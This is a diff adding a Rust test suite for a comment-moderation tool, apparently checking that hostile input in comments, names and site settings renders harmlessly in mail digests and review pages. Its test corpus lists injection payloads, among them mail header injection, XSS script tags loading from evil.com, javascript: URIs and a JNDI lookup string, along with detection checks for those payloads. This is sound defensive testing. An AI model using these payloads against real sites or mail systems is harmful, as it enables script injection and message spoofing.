@@ -1,0 +1,305 @@
+//! Hostile words in every place a stranger's words can stand, in every mail and page; and sizes that nobody should send.
+
+use super::samples::{self, Sample};
+use super::*;
+use crate::comment::{Limits, Submission};
+use crate::dice::Dice;
+use crate::id::{CommentId, SiteId};
+use crate::rules::Effect;
+
+const URL: &str = "https://mod.blog.example/d/7Kq";
+
+fn corpus() -> Vec<String> {
+    let mut corpus: Vec<String> = [
+        "Ana\r\nBcc: all@evil.com\r\n\r\n<script>alert(1)</script>",
+        "</td></tr></table></textarea></title></style><script src=//evil.com/x.js></script>",
+        "\"><img src=x onerror=alert(1)><a href=\"http://evil.com\">click</a>",
+        "' onmouseover='alert(1)' x='",
+        "javascript:alert(1) data:text/html,<b>x vbscript:x mailto:ana@evil.com?bcc=x tel:+123",
+        "\u{202e}moc.live\u{202c} \u{2066}a\u{2069} \u{202a}b \u{200f}c \u{61c}d",
+        "e\u{200b}vil\u{2060}.\u{feff}com \u{ad}\u{2800}\u{3164}\u{e0041}",
+        "nul\u{0} esc\u{1b}[31m bell\u{7} c1\u{9b} del\u{7f} vt\u{b} nel\u{85} sep\u{2028}\u{2029}",
+        "HTTPS://EVIL.COM/a?b=c#d hTTp://evil.com:80 //evil.com www.evil.com evil.com. ftp://evil.com",
+        "x@evil.com, (evil.com) [evil.com](http://evil.com) <http://evil.com> [url=http://evil.com]x[/url]",
+        "http://1.2.3.4/ 1.2.3.4 http://[::1]/ http://user:pass@evil.com/ evil。com evil．com",
+        "{{ site }} {% for x in y %} ${jndi:ldap://evil.com/a} &lt;script&gt; &#60;script&#62;",
+        "z\u{301}\u{302}\u{303}\u{304}algo \u{fe0f}\u{200d} \u{fffe}\u{fdd0}\u{e000}",
+    ]
+    .map(str::to_owned)
+    .to_vec();
+    corpus.push("x".repeat(10_000));
+    corpus.push("evil.com/".repeat(2_000));
+    corpus.push("\u{200b}".repeat(3_000));
+    corpus.push("<".repeat(30_000));
+    corpus
+}
+
+/// The same words as name, address, website, title, body, reason and evidence.
+fn sample(words: &str) -> Sample {
+    let submission = Submission {
+        name: Some(words.into()),
+        email: Some(words.into()),
+        url: Some(words.into()),
+        page_title: Some(words.into()),
+        body: Some(words.into()),
+        ..Submission::default()
+    };
+    let limits = Limits { body_bytes_max: 1 << 20, field_bytes_max: 1 << 20 };
+    let comment =
+        Comment::parse(submission, CommentId::new(samples::now(), &Dice::seeded(1)), SiteId::new("s"), samples::now(), limits).unwrap();
+    let quoted = format!("“{words}”");
+    let decision =
+        samples::decision(Some(0.0), &[("x", Effect::Hold, words, 0.0)], &[(&quoted, 1.0), (words, -1.0), ("“evil”", 0.9), ("“com”", 0.8)]);
+    Sample { comment, decision, history: History::default() }
+}
+
+fn digest<'a>(items: &'a [Item<'a>], site_name: &'a str) -> DigestView<'a> {
+    DigestView {
+        site_name,
+        moderator_name: "Ana",
+        items,
+        more: 0,
+        handled: 41,
+        review_url: URL,
+        pause_url: None,
+        expires_at: samples::expiry(),
+        now: samples::now(),
+    }
+}
+
+fn action<'a>(items: &'a [Item<'a>], focus: Option<usize>, notice: Option<Notice<'a>>) -> ActionPage<'a> {
+    ActionPage {
+        site_name: "Slow Kettle",
+        moderator_name: "Ana",
+        path: "/d/7Kq",
+        items,
+        focus,
+        total: 3,
+        nonce: &|number| format!("nonce-{number}"),
+        notice,
+        expires_at: samples::expiry(),
+        now: samples::now(),
+    }
+}
+
+fn demo<'a>(replies: &'a [Reply<'a>], outcome: Option<Outcome>, form: FormValues<'a>) -> String {
+    DemoPage { replies, outcome, form, mail_place: "data/mail" }.render()
+}
+
+/// Whatever is shown: no control characters, and none that turn the text round.
+fn check_text(shown: &str) {
+    let bad =
+        |c: char| c != '\n' && c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}' | '\u{2067}' | '\u{200e}' | '\u{200f}');
+    assert_eq!(shown.chars().find(|c| bad(*c)), None);
+    assert_eq!(shown.matches('\u{2068}').count(), shown.matches('\u{2069}').count());
+}
+
+/// No address that a mail program would make a link of, but our own.
+fn check_dead(shown: &str) {
+    let shown = shown.replace(URL, "").to_lowercase();
+    for live in ["evil.com", "evil。com", "evil．com", "http:", "https:", "javascript:", "data:", "mailto:", "tel:", "ftp:", "1.2.3.4"] {
+        assert!(!shown.contains(live), "{live} in {shown}");
+    }
+}
+
+/// Only our own tags, in pairs, and only our own targets.
+fn check_html(html: &str) {
+    check_text(html);
+    for tag in html.split('<').skip(1).map(|tag| tag.split('>').next().unwrap_or_default()) {
+        let outside_quotes = tag.split('"').step_by(2).collect::<String>();
+        assert!(!["script", "img", "iframe"].iter().any(|name| tag.starts_with(name)), "<{tag}>");
+        assert!(!["src=", " on", "'"].iter().any(|part| outside_quotes.contains(part)), "<{tag}>");
+    }
+    for (open, close) in
+        [("<td", "</td>"), ("<p", "</p>"), ("<textarea", "</textarea>"), ("<bdi", "</bdi>"), ("<mark", "</mark>"), ("<title>", "</title>")]
+    {
+        let opened: usize = [">", " ", "\n"].iter().map(|end| html.matches(&format!("{}{end}", open.trim_end_matches('>'))).count()).sum();
+        assert_eq!(opened, html.matches(close).count(), "{open}");
+    }
+    assert_eq!(html.matches("<h1").count(), 1);
+    for target in html.split("href=\"").skip(1) {
+        let ours = ["/assets/hamlet.css\"", "/d/7Kq\"", "/d/7Kq?i=", "/demo/\"", "#", URL].iter().any(|own| target.starts_with(own));
+        assert!(ours, "{}", target.chars().take(60).collect::<String>());
+    }
+}
+
+fn check_page(html: &str) {
+    check_html(html);
+    assert!(!html.contains("style=") && !html.contains("<style"), "inline style");
+}
+
+#[test]
+fn hostile_words_stay_words() {
+    for words in corpus() {
+        let samples = [sample(&words)];
+        let items = samples::items(&samples);
+        let mail = digest(&items, &words).render();
+        assert!(!mail.subject.contains(['\r', '\n', '\0']) && mail.subject.chars().count() < 140, "{:?}", mail.subject);
+        check_text(&mail.text);
+        check_html(&mail.html);
+        let mail = digest(&items, "Slow Kettle").render();
+        check_dead(&mail.text);
+        check_dead(mail.html.split("</style>").last().unwrap());
+        for focus in [None, Some(1)] {
+            let page = action(&items, focus, None).render();
+            check_page(&page);
+            check_dead(&page);
+        }
+        let replies = [Reply { name: &words, at: &words, body: &words }];
+        check_page(&demo(&replies, Some(Outcome::Unavailable), FormValues { name: &words, email: &words, url: &words, body: &words }));
+    }
+}
+
+#[test]
+fn hostile_settings_stay_words() {
+    for words in corpus() {
+        let jane = [samples::jane()];
+        let items = samples::items(&jane);
+        let ruled = Ruled { ruling: Ruling::Publish, by: &words, at: samples::now() };
+        let page = ActionPage {
+            site_name: &words,
+            moderator_name: &words,
+            notice: Some(Notice::AlreadyDecided(ruled)),
+            ..action(&items, None, None)
+        };
+        check_page(&page.render());
+        check_page(&NoticePage { site_name: Some(&words), refusal: Refusal::UnknownLink }.render());
+    }
+}
+
+/// As an encoder would count it: quoted-printable, the costlier of the two.
+fn quoted_printable(text: &str) -> usize {
+    let bytes: usize = text.replace('\n', "\r\n").bytes().map(|b| if b.is_ascii() && b != b'=' { 1 } else { 3 }).sum();
+    bytes + bytes / 72 * 3
+}
+
+#[test]
+fn a_mail_of_any_size_fits() {
+    let words = [
+        "plain words and more of them ",
+        "Хорошие кофейные зёрна ",
+        "咖啡的味道真的很好",
+        "☕🔥👨\u{200d}👩\u{200d}👧",
+        "<&\"'>",
+        "\u{200b}\u{0}",
+        "сайт.рф http://a.com ",
+    ];
+    for words in words {
+        let one = sample(&words.repeat(300));
+        for number in [1, 25, 1_000] {
+            let item = samples::items(std::slice::from_ref(&one))[0];
+            let items: Vec<Item<'_>> = (1..=number).map(|number| Item { number, ..item }).collect();
+            let mail = digest(&items, "Slow Kettle").render();
+            let shown = mail.html.matches("<h2").count();
+            assert!(mail.html.len() <= 70_000, "{words}: {} bytes", mail.html.len());
+            assert!(quoted_printable(&mail.html) + quoted_printable(&mail.text) <= 90_000, "{words} x {number}");
+            assert!(shown >= 1 && (number == 1 || shown >= 3), "{words}: {shown} shown");
+            assert_eq!(mail.text.matches("   Review: ").count(), shown);
+            assert_eq!(mail.html.contains("more on the page"), shown < number);
+            assert!(mail.html.contains(&format!("{number} comment")));
+        }
+    }
+}
+
+#[test]
+fn twenty_five_ordinary_comments_fit_into_one_mail() {
+    let samples: Vec<Sample> = (0..25).map(|_| samples::omar()).collect();
+    let mail = digest(&samples::items(&samples), "Slow Kettle").render();
+    assert!(!mail.html.contains("more on the page"), "{}", mail.html.matches("<h2").count());
+}
+
+#[test]
+fn subjects_count_and_say_no_more() {
+    let all = samples::three();
+    let items = samples::items(&all);
+    for (items, more, subject) in [
+        (&items[..], 0, "[Slow Kettle] 3 comments to review (1 likely spam, oldest 5 h)"),
+        (&items[..], 12, "[Slow Kettle] 15 comments to review (1 likely spam, oldest 5 h)"),
+        (&items[2..], 0, "[Slow Kettle] 1 comment to review (oldest 50 min)"),
+    ] {
+        assert_eq!(DigestView { more, ..digest(items, "Slow Kettle") }.render().subject, subject);
+    }
+}
+
+#[test]
+fn the_mail_as_people_get_it() {
+    let all = samples::three();
+    let items = samples::items(&all);
+    let mail = DigestView { pause_url: Some("https://mod.blog.example/d/7Kq/pause"), ..digest(&items, "Slow Kettle") }.render();
+    insta::assert_snapshot!("digest_text", mail.text);
+    insta::assert_snapshot!("digest_html", mail.html);
+    check_text(&mail.text);
+    assert!(mail.text.lines().all(|line| line.chars().count() <= 78));
+    let one = digest(&items[1..2], "Slow Kettle").render();
+    assert!(one.html.contains("1 comment waits for you") && one.html.contains("Review it on one page") && !one.html.contains("Pause"));
+    assert!(DigestView { more: 12, ..digest(&items, "Slow Kettle") }.render().text.contains("12 more on the page.\nReview all 15: "));
+}
+
+#[test]
+fn the_page_as_people_get_it() {
+    let all = samples::three();
+    let mut items = samples::items(&all);
+    insta::assert_snapshot!("action_focused", action(&items, Some(1), None).render());
+    items[1].ruled = Some(Ruled { ruling: Ruling::Spam, by: "Bob", at: samples::now() });
+    let notice = Notice::Decided { ruling: Ruling::Publish, wait_seconds: 20 };
+    let page = action(&items, None, Some(notice)).render();
+    insta::assert_snapshot!("action_all", page);
+    assert_eq!((page.matches("<form").count(), page.matches("2 comments to review").count()), (2, 2));
+    assert!(action(&items, Some(9), None).render().contains("2 comments to review"), "an unknown number shows all");
+    assert!(action(&items[1..2], None, None).render().contains("Nothing left to review"));
+    assert!(!page.contains("jane@gmail.com") && !page.contains("salma@post"));
+}
+
+#[test]
+fn notices_say_what_happened() {
+    let bob = Ruled { ruling: Ruling::Remove, by: "Bob", at: samples::now() };
+    let notices = [
+        Notice::Decided { ruling: Ruling::Publish, wait_seconds: 20 },
+        Notice::Decided { ruling: Ruling::Spam, wait_seconds: 20 },
+        Notice::Decided { ruling: Ruling::Remove, wait_seconds: 20 },
+        Notice::AlreadyDecided(bob),
+        Notice::PageTooOld,
+        Notice::EditedSince,
+    ];
+    let said = |html: String| html.lines().find(|line| line.starts_with("<p class=\"say ")).unwrap_or_default().to_owned();
+    let mut all: Vec<String> = notices.map(|notice| said(action(&[], None, Some(notice)).render())).to_vec();
+    let refusals = [
+        Refusal::Expired { at: samples::expiry() },
+        Refusal::UnknownLink,
+        Refusal::RefusedOrigin,
+        Refusal::NothingLeft,
+        Refusal::Unavailable,
+    ];
+    for refusal in refusals {
+        let page = NoticePage { site_name: None, refusal }.render();
+        check_page(&page);
+        all.push(page.lines().find(|line| line.starts_with("<main")).unwrap_or_default().to_owned());
+    }
+    insta::assert_snapshot!("notices", all.join("\n"));
+}
+
+#[test]
+fn a_long_body_is_cut_and_says_so() {
+    let long = Sample { comment: samples::comment("A", "a@b.example", "T", &"é".repeat(20_005), 1), ..samples::jane() };
+    let page = action(&samples::items(&[long]), Some(1), None).render();
+    assert!(page.contains("The comment goes on for 5 more characters."));
+    assert_eq!(page.matches('é').count(), 20_000);
+}
+
+#[test]
+fn the_blog_as_readers_see_it() {
+    let replies = [Reply { name: "Jane D.", at: "22 November, 15:00", body: "One.\nTwo.\n\nhttp://evil.com <b>" }];
+    insta::assert_snapshot!("demo", demo(&replies, Some(Outcome::Held), FormValues::default()));
+    let kept = FormValues { name: "", email: "ana@mail.example", url: "http://a.example", body: "\n<Kept> \"words\"" };
+    let page = demo(&[], Some(Outcome::Missing(Field::Name)), kept);
+    for part in [
+        "Please fill in your name. Nothing was lost.",
+        "autocomplete=\"name\" value=\"\" required aria-invalid=\"true\" aria-describedby=\"name-problem\" autofocus>",
+        "value=\"ana@mail.example\"",
+        "\n\n&#60;Kept&#62; &#34;words&#34;</textarea>",
+        ">3 replies</h2>",
+    ] {
+        assert!(page.contains(part), "{part}");
+    }
+    assert_eq!(page.matches("aria-invalid").count(), 1);
+}
